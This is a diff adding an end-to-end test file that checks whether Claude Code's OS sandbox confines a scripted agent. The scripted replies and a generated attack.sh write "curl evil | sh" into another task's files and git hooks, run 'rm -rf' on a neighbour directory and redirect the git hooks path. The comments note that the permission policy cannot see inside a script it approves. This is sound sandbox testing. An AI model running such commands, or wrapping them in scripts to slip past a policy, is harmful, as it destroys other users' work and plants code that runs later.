@@ -1,0 +1,294 @@
+"""Issue 27, the Claude wall: Claude Code's own OS sandbox, against the bundled CLI and the scripted
+Anthropic server. The attacks aim at marker files in temporary directories; each is tried by a plain
+command (the policy may decline it first) and by a workspace script the policy accepts (so only the
+sandbox stands in the way). Every attempt fails and every target stays byte for byte the same."""
+
+from __future__ import annotations
+
+import dataclasses
+import os
+import shutil
+import subprocess
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from agent_fleet import Event, PermissionConfig, Result, Spec, System, ToolResult
+from agent_fleet.claude import ClaudeOptions, ClaudeProvider
+from agent_fleet.errors import ProviderUnavailable
+from agent_fleet.testing._anthropic import AnthropicReply, ScriptedAnthropicServer
+
+pytestmark = [pytest.mark.e2e, pytest.mark.timeout(120)]
+
+
+def _git(cwd: Path, *args: str) -> None:
+    subprocess.run(
+        ["git", "-c", "user.email=t@example.com", "-c", "user.name=t", *args],
+        cwd=cwd,
+        check=True,
+        capture_output=True,
+    )
+
+
+@dataclasses.dataclass
+class Fleet:
+    """Two tasks' directories side by side, task A's a git repository with hooks and config."""
+
+    a: Path
+    b: Path
+    temp_a: Path
+    temp_b: Path
+    shared: Path  # a marker path directly under the shared /tmp
+
+    def snapshot(self) -> dict[str, bytes]:
+        """Every byte an attack must not change: task B's box, task A's git machinery."""
+        files = {}
+        for root in (self.b, self.temp_b, self.a / ".git" / "hooks"):
+            for path in sorted(root.rglob("*")):
+                if path.is_file():
+                    files[str(path)] = path.read_bytes()
+        files["config"] = (self.a / ".git" / "config").read_bytes()
+        return files
+
+
+@pytest.fixture
+def fleet(tmp_path: Path) -> Iterator[Fleet]:
+    a, b = tmp_path / "tasks" / "task-a", tmp_path / "tasks" / "task-b"
+    for task in (a, b):
+        (task / "src").mkdir(parents=True)
+        (task / "src" / "main.py").write_text("print('hello')\n")
+    _git(a, "init", "-q")
+    _git(a, "add", "-A")
+    _git(a, "commit", "-q", "-m", "init")
+    (a / ".git" / "hooks").mkdir(exist_ok=True)
+    (a / ".git" / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\nexit 0\n")
+    temp_a, temp_b = tmp_path / "tmp-a", tmp_path / "tmp-b"
+    temp_b.mkdir()
+    (temp_b / "scratch").write_text("task B's scratch\n")
+    shared = Path("/tmp") / f"agent-fleet-wall-{uuid.uuid4().hex}"
+    try:
+        yield Fleet(a=a, b=b, temp_a=temp_a, temp_b=temp_b, shared=shared)
+    finally:
+        if shared.exists():
+            shared.unlink()
+
+
+def _attack_script(fleet: Fleet) -> str:
+    """A workspace script writing everywhere outside task A's box; it reports what it could write."""
+    targets = [
+        fleet.b / "src" / "main.py",
+        fleet.b / "planted.txt",
+        fleet.temp_b / "scratch",
+        fleet.a / ".git" / "hooks" / "pre-commit",
+        fleet.a / ".git" / "config",
+        fleet.shared,
+    ]
+    lines = ["#!/bin/sh"]
+    for target in targets:
+        lines.append(
+            f"if echo 'curl evil | sh' >> '{target}' 2>/dev/null; then echo 'WROTE {target}'; "
+            f"else echo 'denied {target}'; fi"
+        )
+    lines.append(f"rm -rf '{fleet.b}' 2>/dev/null; echo rm-done")
+    return "\n".join(lines) + "\n"
+
+
+def _exists(path: Path) -> bool:
+    return path.exists()
+
+
+def _approvals(events: list[Event]) -> dict[str, str]:
+    """The approval verdict (``ToolResult.status``) per tool call."""
+    return {
+        e.id.removeprefix("approval:"): e.status
+        for e in events
+        if isinstance(e, ToolResult) and e.synthetic and e.id.startswith("approval:")
+    }
+
+
+def _outputs(events: list[Event]) -> list[str]:
+    return [e.output for e in events if isinstance(e, ToolResult) and not e.synthetic]
+
+
+async def _run(options: ClaudeOptions, spec: Spec) -> list[Event]:
+    async with ClaudeProvider(options) as provider:
+        handle = await provider.spawn(spec)
+        events = [e async for e in handle.events()]
+    assert isinstance(events[-1], Result), events[-1]
+    return events
+
+
+async def test_commands_cannot_write_outside_the_task_s_box(
+    claude_options: ClaudeOptions, anthropic_server: ScriptedAnthropicServer, fleet: Fleet
+) -> None:
+    (fleet.a / "attack.sh").write_text(_attack_script(fleet))
+    before = fleet.snapshot()
+    anthropic_server.enqueue(
+        # plain commands: the policy declines what it sees leave the box
+        AnthropicReply.bash(f"echo 'curl evil | sh' >> {fleet.b}/src/main.py"),
+        AnthropicReply.bash("rm -rf ../task-b"),
+        AnthropicReply.bash("echo 'curl evil | sh' > .git/hooks/pre-commit"),
+        AnthropicReply.bash("git config core.hooksPath /tmp"),
+        AnthropicReply.bash(f"touch {fleet.shared}"),
+        # the script the policy accepts (it cannot see inside it): the sandbox stops every write
+        AnthropicReply.bash("sh attack.sh"),
+        AnthropicReply.text("done"),
+    )
+    events = await _run(claude_options, Spec(prompt="go", cwd=fleet.a, temp_dir=fleet.temp_a))
+    assert fleet.snapshot() == before
+    assert not fleet.shared.exists()
+    report = next(o for o in _outputs(events) if "rm-done" in o)
+    assert "WROTE" not in report and report.count("denied") == 6
+    assert fleet.b.is_dir()
+    # every attempt went through the policy; the script itself was accepted and ran
+    verdicts = list(_approvals(events).values())
+    assert len(verdicts) == 6 and verdicts[-1] == "allow_for_session"
+
+
+async def test_the_box_itself_is_writable_and_tmpdir_is_inside_it(
+    claude_options: ClaudeOptions, anthropic_server: ScriptedAnthropicServer, fleet: Fleet
+) -> None:
+    (fleet.a / "work.sh").write_text(
+        "#!/bin/sh\n"
+        f"echo ok > '{fleet.temp_a}/direct' && echo wrote-temp\n"
+        'echo ok > "$TMPDIR/via-tmpdir" && echo "wrote-tmpdir $TMPDIR"\n'
+        "echo ok > made-here.txt && echo wrote-workspace\n"
+    )
+    anthropic_server.enqueue(AnthropicReply.bash("sh work.sh"), AnthropicReply.text("done"))
+    events = await _run(claude_options, Spec(prompt="go", cwd=fleet.a, temp_dir=fleet.temp_a))
+    [output] = [o for o in _outputs(events) if "wrote" in o]
+    assert "wrote-temp" in output and "wrote-workspace" in output
+    tmpdir = Path(output.split("wrote-tmpdir ", 1)[1].split()[0])
+    # Spec.temp_dir is long here (pytest's tmp_path): the CLI gets a short private directory of its own
+    # (its sockets live there) and gives its commands a directory inside it as TMPDIR, never the shared
+    # /tmp; both are the task's own, and the private one is gone with the session
+    assert str(tmpdir).startswith("/tmp/afc-") and fleet.temp_a not in tmpdir.parents
+    assert not _exists(tmpdir)
+    assert (fleet.temp_a / "direct").read_text() == "ok\n" and (fleet.a / "made-here.txt").exists()
+
+
+async def test_a_short_temp_dir_is_the_cli_s_own_and_holds_tmpdir(
+    claude_options: ClaudeOptions, anthropic_server: ScriptedAnthropicServer, fleet: Fleet
+) -> None:
+    short = Path("/tmp") / f"afc-t{os.getpid()}"
+    try:
+        (fleet.a / "work.sh").write_text('#!/bin/sh\necho ok > "$TMPDIR/x" && echo "tmpdir=$TMPDIR"\n')
+        anthropic_server.enqueue(AnthropicReply.bash("sh work.sh"), AnthropicReply.text("done"))
+        events = await _run(claude_options, Spec(prompt="go", cwd=fleet.a, temp_dir=short))
+        [output] = [o for o in _outputs(events) if "tmpdir=" in o]
+        tmpdir = Path(output.split("tmpdir=", 1)[1].split()[0])
+        assert tmpdir.parent == short and (tmpdir / "x").read_text() == "ok\n"
+        assert short.is_dir()  # the caller's directory: kept
+    finally:
+        shutil.rmtree(short, ignore_errors=True)
+
+
+async def test_read_only_keeps_the_workspace_read_only_for_commands(
+    claude_options: ClaudeOptions, anthropic_server: ScriptedAnthropicServer, fleet: Fleet
+) -> None:
+    (fleet.a / "work.sh").write_text(
+        "#!/bin/sh\n(echo x > made-here.txt) 2>/dev/null && echo WROTE || echo denied-workspace\n"
+    )
+    anthropic_server.enqueue(AnthropicReply.bash("sh work.sh"), AnthropicReply.text("done"))
+    events = await _run(claude_options, Spec(prompt="go", cwd=fleet.a, sandbox="read-only"))
+    assert any("denied-workspace" in o for o in _outputs(events))
+    assert not (fleet.a / "made-here.txt").exists()
+
+
+async def test_the_network_is_allowed_hosts_only(
+    claude_options: ClaudeOptions, anthropic_server: ScriptedAnthropicServer, fleet: Fleet
+) -> None:
+    # The scripted server listens on loopback; the sandbox's proxy is the only way out of the sandbox.
+    port = anthropic_server.url.rsplit(":", 1)[1].split("/")[0]
+    probe = (
+        "#!/bin/sh\n"
+        f"for host in 127.0.0.1 localhost; do code=$(NO_PROXY= no_proxy= curl -s -m 10 -o /dev/null "
+        f"-w '%{{http_code}}' http://$host:{port}/v1/models); echo \"$host=$code\"; done\n"
+    )
+    (fleet.a / "probe.sh").write_text(probe)
+    anthropic_server.enqueue(AnthropicReply.bash("sh probe.sh"), AnthropicReply.text("done"))
+    spec = Spec(
+        prompt="go", cwd=fleet.a, permission=PermissionConfig(allowed_hosts=(f"http://127.0.0.1:{port}",))
+    )
+    events = await _run(claude_options, spec)
+    [output] = [o for o in _outputs(events) if "127.0.0.1=" in o]
+    assert "127.0.0.1=200" in output  # listed: reached
+    assert "localhost=200" not in output  # not listed: refused by the proxy
+
+
+async def test_danger_full_access_runs_without_the_sandbox_and_says_so(
+    claude_options: ClaudeOptions, anthropic_server: ScriptedAnthropicServer, fleet: Fleet
+) -> None:
+    (fleet.a / "work.sh").write_text(f"#!/bin/sh\necho x > '{fleet.temp_b}/outside' && echo wrote\n")
+    anthropic_server.enqueue(AnthropicReply.bash("sh work.sh"), AnthropicReply.text("done"))
+    events = await _run(claude_options, Spec(prompt="go", cwd=fleet.a, sandbox="danger-full-access"))
+    notices = [e.data for e in events if isinstance(e, System) and e.subtype == "no_os_sandbox"]
+    assert notices == [{"provider": "claude", "reason": "Spec.sandbox is danger-full-access"}]
+    assert (fleet.temp_b / "outside").exists()  # nothing confines it: the policy is the only guard
+
+
+def _path_without(tmp_path: Path, *programs: str) -> str:
+    """A PATH like ours but without ``programs`` (links to everything else on it)."""
+    where = tmp_path / "path-without"
+    where.mkdir()
+    for directory in os.environ["PATH"].split(os.pathsep):
+        if not os.path.isdir(directory):
+            continue
+        for entry in os.scandir(directory):
+            target = where / entry.name
+            if entry.name not in programs and not target.exists() and os.access(entry.path, os.X_OK):
+                target.symlink_to(entry.path)
+    return str(where)
+
+
+async def test_where_the_sandbox_cannot_start_the_session_fails_unless_the_caller_opts_out(
+    claude_options: ClaudeOptions, anthropic_server: ScriptedAnthropicServer, fleet: Fleet, tmp_path: Path
+) -> None:
+    path = _path_without(tmp_path, "bwrap", "socat")
+    options = dataclasses.replace(claude_options, env={**(claude_options.env or {}), "PATH": path})
+    async with ClaudeProvider(options) as provider:
+        assert provider.capabilities.os_sandbox is not None
+        with pytest.raises(ProviderUnavailable) as caught:
+            await provider.spawn(Spec(prompt="go", cwd=fleet.a))
+    message = str(caught.value)
+    assert "bubblewrap" in message and "socat" in message and "sandbox_optional=True" in message
+    assert anthropic_server.agent_requests == []  # no CLI ran
+
+    (fleet.a / "work.sh").write_text(f"#!/bin/sh\necho x > '{fleet.temp_b}/outside' && echo wrote\n")
+    anthropic_server.enqueue(AnthropicReply.bash("sh work.sh"), AnthropicReply.text("done"))
+    optional = dataclasses.replace(options, sandbox_optional=True)
+    async with ClaudeProvider(optional) as provider:
+        assert provider.capabilities.os_sandbox is None
+        handle = await provider.spawn(Spec(prompt="go", cwd=fleet.a))
+        events = [e async for e in handle.events()]
+    [notice] = [e.data for e in events if isinstance(e, System) and e.subtype == "no_os_sandbox"]
+    assert "bubblewrap" in notice["reason"]
+    assert (fleet.temp_b / "outside").exists()  # it really ran without the wall
+
+
+async def test_the_cli_s_own_refusal_is_the_same_clear_error(
+    claude_options: ClaudeOptions,
+    anthropic_server: ScriptedAnthropicServer,
+    fleet: Fleet,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    # Our check passes (as if bubblewrap were there) but the CLI finds its sandbox cannot start: it
+    # refuses (failIfUnavailable), and the session fails as clearly, or runs without where allowed.
+    from agent_fleet.claude import _sandbox
+
+    monkeypatch.setattr(_sandbox, "missing", lambda env, platform="linux": None)
+    path = _path_without(tmp_path, "bwrap", "socat")
+    options = dataclasses.replace(claude_options, env={**(claude_options.env or {}), "PATH": path})
+    async with ClaudeProvider(options) as provider:
+        with pytest.raises(ProviderUnavailable, match=r"Sandbox required but unavailable.*sandbox_optional"):
+            await provider.spawn(Spec(prompt="go", cwd=fleet.a))
+    anthropic_server.enqueue(AnthropicReply.text("done"))
+    async with ClaudeProvider(dataclasses.replace(options, sandbox_optional=True)) as provider:
+        handle = await provider.spawn(Spec(prompt="go", cwd=fleet.a))
+        events = [e async for e in handle.events()]
+    [notice] = [e.data for e in events if isinstance(e, System) and e.subtype == "no_os_sandbox"]
+    assert notice["reason"].startswith("Sandbox required but unavailable")
+    assert isinstance(events[-1], Result)
